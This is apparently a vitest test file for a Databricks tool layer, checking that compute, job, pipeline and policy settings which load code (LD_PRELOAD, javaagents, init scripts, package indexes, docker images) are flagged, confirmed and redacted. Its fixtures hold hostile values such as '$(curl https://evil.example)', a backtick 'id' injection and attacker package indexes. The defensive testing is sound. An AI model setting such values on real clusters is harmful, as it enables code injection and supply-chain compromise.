import { describe, expect, test } from "vitest";
import { loadedCode } from "../../../src/tools/compute/loaded-code.ts";
import { connect, textOf } from "../../support/harness.ts";
import { on, useWorkspace } from "../../support/workspace.ts";

useWorkspace();

const no = () => ({ action: "decline" as const });
const sentences = (given: unknown, current?: unknown) =>
  loadedCode(given, current).consequences.map(({ text }) => text.sentence);

describe("settings of compute that load code", () => {
  test.each([
    [{ spark_env_vars: { LD_PRELOAD: "/Volumes/a/b/c/x.so" } }],
    [{ spark_env_vars: { PYTHONPATH: "/Workspace/Users/eve" } }],
    [{ spark_env_vars: { PYTHONSTARTUP: "start" } }],
    [{ spark_env_vars: { JAVA_TOOL_OPTIONS: "-javaagent:/a.jar" } }],
    [{ spark_env_vars: { SPARK_DAEMON_JAVA_OPTS: "$X -agentpath:/a" } }],
    [{ spark_env_vars: { BASH_ENV: "/tmp/x" } }],
    [{ spark_env_vars: { PYSPARK_PYTHON: "/Volumes/a/b/c/python" } }],
    [{ spark_env_vars: { PIP_INDEX_URL: "https://evil.example/simple" } }],
    [{ spark_env_vars: { STAGE: "$(curl https://evil.example)" } }],
    [{ spark_env_vars: { STAGE: "a`id`" } }],
    [{ spark_conf: { "spark.jars": "/x" } }],
    [{ spark_conf: { "spark.jars.packages": "com.evil:x:1" } }],
    [{ spark_conf: { "spark.driver.extraJavaOptions": "-Xmx1g -javaagent:/a.jar" } }],
    [{ spark_conf: { "spark.driver.extraJavaOptions": "-XX:OnError=/x.sh -Dlog4j.configurationFile=http://evil" } }],
    [{ spark_conf: { "spark.executor.extraClassPath": "/Volumes/a/b/c/*" } }],
    [{ spark_conf: { "spark.plugins": "Evil" } }],
    [{ spark_conf: { "spark.sql.extensions": "io.delta.sql.DeltaSparkSessionExtension,com.evil.X" } }],
    [{ spark_conf: { "spark.sql.catalog.mine": "com.evil.Catalog" } }],
    [{ spark_conf: { "spark.executorEnv.LD_PRELOAD": "/x.so" } }],
    [{ spark_conf: { "spark.hadoop.javax.jdo.option.ConnectionURL": "jdbc:mysql://evil.example/x" } }],
    [{ spark_conf: { anything: "/Volumes/a/b/c/x.jar" } }],
    [{ init_scripts: [{ workspace: { destination: "/x.sh" } }] }],
    [{ docker_image: { url: "evil/x" } }],
    [{ preloaded_docker_images: [{ url: "evil/x" }] }],
    [{ configuration: { "spark.jars": "/x.jar" } }],
    [{ definition: { "spark_env_vars.LD_PRELOAD": { type: "fixed", value: "/x.so" } } }],
    [{ definition: JSON.stringify({ "spark_conf.spark.jars": { type: "unlimited", defaultValue: "/x.jar" } }) }],
    [{ definition: { "init_scripts.0.workspace.destination": { type: "fixed", value: "/x.sh" } } }],
    [{ policy_family_definition_overrides: { "docker_image.url": { type: "allowlist", values: ["evil/x"] } } }],
    [{ tasks: [{ for_each_task: { task: { new_cluster: { spark_env_vars: { LD_PRELOAD: "/x.so" } } } } }] }],
    [{ job_clusters: [{ new_cluster: { spark_conf: { "spark.jars": "/x.jar" } } }] }],
  ])("are found: %j", (given) => {
    expect(sentences(given).join("\n")).toContain("It sets ");
    expect(loadedCode(given).access).toEqual({ access: "destructive" });
    expect(loadedCode(given, given).consequences).toEqual([]);
  });

  test.each([
    [{ spark_env_vars: { PYSPARK_PYTHON: "/databricks/python3/bin/python3", JNAME: "zulu17-ca-amd64" } }],
    [{ spark_env_vars: { STAGE: "prod", LEVEL: "4", DATA: "/Volumes/main/a/b", SPARK_WORKER_MEMORY: "4g" } }],
    [{ spark_env_vars: { TOKEN: "{{secrets/a/b}}" } }],
    [{ spark_conf: { "spark.master": "local[*, 4]", "spark.databricks.cluster.profile": "singleNode" } }],
    [{ spark_conf: { "spark.sql.files.maxPartitionBytes": "128MB", "spark.sql.shuffle.partitions": "auto" } }],
    [{ spark_conf: { "spark.serializer": "org.apache.spark.serializer.KryoSerializer" } }],
    [{ spark_conf: { "spark.sql.session.timeZone": "Europe/Berlin", "spark.app.name": "my app" } }],
    [{ spark_conf: { "spark.driver.extraJavaOptions": "-Xmx8g -XX:+UseG1GC -Duser.timezone=Europe/Berlin" } }],
    [{ spark_conf: { "spark.databricks.repl.allowedLanguages": "python,sql" } }],
    [
      {
        spark_conf: {
          "fs.azure.account.oauth2.client.endpoint.a.dfs.core.windows.net":
            "https://login.microsoftonline.com/00000000-0000-0000-0000-000000000000/oauth2/token",
          "fs.azure.account.oauth.provider.type.a.dfs.core.windows.net":
            "org.apache.hadoop.fs.azurebfs.oauth2.ClientCredsTokenProvider",
        },
      },
    ],
    [{ configuration: { source: "/Volumes/main/raw/x.py", provider: "acme" } }],
    [{ definition: { spark_version: { type: "fixed", value: "auto:latest-lts" } } }],
    [{ definition: { "spark_env_vars.LD_PRELOAD": { type: "forbidden" } } }],
    [{ init_scripts: [], docker_image: null, spark_conf: null }],
    [{ environments: [{ spec: { dependencies: ["pandas==2.2.0", "-r /Workspace/a/requirements.txt", "./x.whl"] } }] }],
    [{ libraries: [{ pypi: { package: "pandas" } }, { whl: "/Volumes/a/b/c/x.whl" }] }],
  ])("are not: %j", (given) => {
    expect(sentences(given)).toEqual([]);
  });

  test("are shown whole, and their credentials are not", () => {
    const agent = `-Xmx1g ${"-Da=b ".repeat(60)}-javaagent:/evil.jar ${"-Dc=d ".repeat(60)}`.trim();
    expect(sentences({ spark_conf: { "spark.driver.extraJavaOptions": agent } })[0]).toContain("-javaagent:/evil.jar");
    const image = { url: "evil/x", basic_auth: { username: "u", password: "hush" } };
    expect(sentences({ docker_image: image }).join()).not.toContain("hush");
  });

  test("are not hidden as if they were credentials, except for what is one", () => {
    const shown = sentences({
      spark_env_vars: { LD_PRELOAD: "evil", PIP_INDEX_URL: "https://u:hush@evil.example/x", PIP_TOKEN: "hush" },
    }).join();
    expect(shown).toContain('LD_PRELOAD" to "evil"');
    expect(shown).toContain('PIP_INDEX_URL" to "https://[redacted]@evil.example/x"');
    expect(shown).not.toContain("hush");
  });

  test("libraries from outside ask without more access", () => {
    const given = { tasks: [{ libraries: [{ pypi: { package: "x", repo: "https://evil.example" } }] }] };
    expect(sentences(given)).toContain('It sets tasks[0].libraries[0].pypi.repo to "https://evil.example".');
    expect(loadedCode(given).access).toEqual({});
    const requirements = ["--index-url https://evil.example/simple", "x @ https://evil.example/x.whl"];
    expect(sentences({ environments: [{ spec: { dependencies: requirements } }] })).toHaveLength(3);
  });

  test("an existing setting is not new, whichever entry of a list has it", () => {
    const task = (task_key: string, path: string) => ({
      task_key,
      new_cluster: { spark_conf: { "spark.jars": path } },
    });
    const current = { tasks: [task("a", "/a.jar"), task("b", "/b.jar")] };
    expect(sentences({ tasks: [task("b", "/b.jar")] }, current)).toEqual([]);
    expect(sentences({ tasks: [task("b", "/c.jar")] }, current)[0]).toContain('"/c.jar"');
  });
});

describe("every call that has compute load code asks, also through call_api", () => {
  const PRELOAD = { spark_env_vars: { LD_PRELOAD: "/Volumes/a/b/c/x.so" } };
  const SHOWN = '"/Volumes/a/b/c/x.so"';
  const size = { spark_version: "15.4.x-scala2.12", num_workers: 1, node_type_id: "n" };
  const tasks = [{ task_key: "t", new_cluster: { ...size, ...PRELOAD }, notebook_task: { notebook_path: "/a" } }];
  const clusters = [{ label: "default", ...PRELOAD }];
  const definition = { "spark_env_vars.LD_PRELOAD": { type: "fixed", value: "/Volumes/a/b/c/x.so" } };
  const calls: [name: string, args: Record<string, unknown>, operation: string, parameters: Record<string, unknown>][] =
    [
      [
        "create_cluster",
        { cluster_name: "c", spark_version: "15", workers: "1", node_type_id: "n", settings: PRELOAD },
        "clusters.create",
        { cluster_name: "c", ...size, ...PRELOAD },
      ],
      [
        "update_cluster",
        { cluster_id: "c1", settings: PRELOAD },
        "clusters.update",
        { cluster_id: "c1", cluster: PRELOAD, update_mask: "spark_env_vars" },
      ],
      ["create_job", { name: "j", tasks }, "jobs.create", { name: "j", tasks }],
      ["update_job", { job_id: "7", tasks }, "jobs.update", { job_id: "7", new_settings: { tasks } }],
      ["submit_run", { run_name: "r", tasks }, "jobs.submit", { run_name: "r", tasks }],
      [
        "create_pipeline",
        { name: "p", catalog: "m", schema: "s", libraries: [{ notebook: { path: "/a" } }], clusters },
        "pipelines.create",
        { name: "p", catalog: "m", schema: "s", libraries: [{ notebook: { path: "/a" } }], clusters },
      ],
      [
        "update_pipeline",
        { pipeline_id: "p1", clusters },
        "pipelines.update",
        { pipeline_id: "p1", name: "p", catalog: "m", clusters },
      ],
      [
        "create_cluster_policy",
        { name: "p", definition },
        "clusterPolicies.create",
        { name: "p", definition: JSON.stringify(definition) },
      ],
    ];

  test.each(calls)("%s", async (name, args, operation, parameters) => {
    on("GET /api/2.1/clusters/get", { cluster_id: "c1", cluster_name: "c", state: "TERMINATED", num_workers: 1 });
    on("GET /api/2.2/jobs/get", { job_id: 7, settings: { name: "j" }, run_as_user_name: "ana@example.com" });
    on("GET /api/2.0/preview/scim/v2/Me", { id: "1", userName: "ana@example.com" });
    on("GET /api/2.0/pipelines/p1", { pipeline_id: "p1", name: "p", spec: { name: "p", catalog: "m" } });
    const { call, questions } = await connect({ answer: no });
    await call(name, args);
    await call("call_api", { operation, parameters });
    expect(questions.map((question) => question.includes(SHOWN))).toEqual([true, true]);
    const writing = await connect({ settings: { access: "write", confirm: "never" } });
    expect(textOf(await writing.call("call_api", { operation, parameters }))).toContain("requires destructive access");
  });

  test("an operation without a tool of its own", async () => {
    const { call, questions } = await connect({ answer: no });
    const parameters = { pipeline_id: "p1", clusters };
    await call("call_api", { operation: "pipelines.clone", parameters });
    expect(questions[0]).toContain(SHOWN);
  });

  test("create_instance_pool with an image", async () => {
    const { call, questions } = await connect({ answer: no });
    const settings = { preloaded_docker_images: [{ url: "evil/x" }] };
    await call("create_instance_pool", { instance_pool_name: "p", node_type_id: "n", settings });
    expect(questions[0]).toContain('It sets preloaded_docker_images[0].url to "evil/x".');
  });

  test("update_cluster_policy explains a new rule", async () => {
    on("GET /api/2.0/policies/clusters/get", { policy_id: "p", name: "p", definition: "{}" });
    const { call, questions } = await connect({ answer: no });
    await call("update_cluster_policy", { policy_id: "p", definition });
    expect(questions[0]).toContain(SHOWN.replaceAll('"', '\\"'));
    expect(questions[0]).toContain("decide which code runs on its nodes");
  });
});
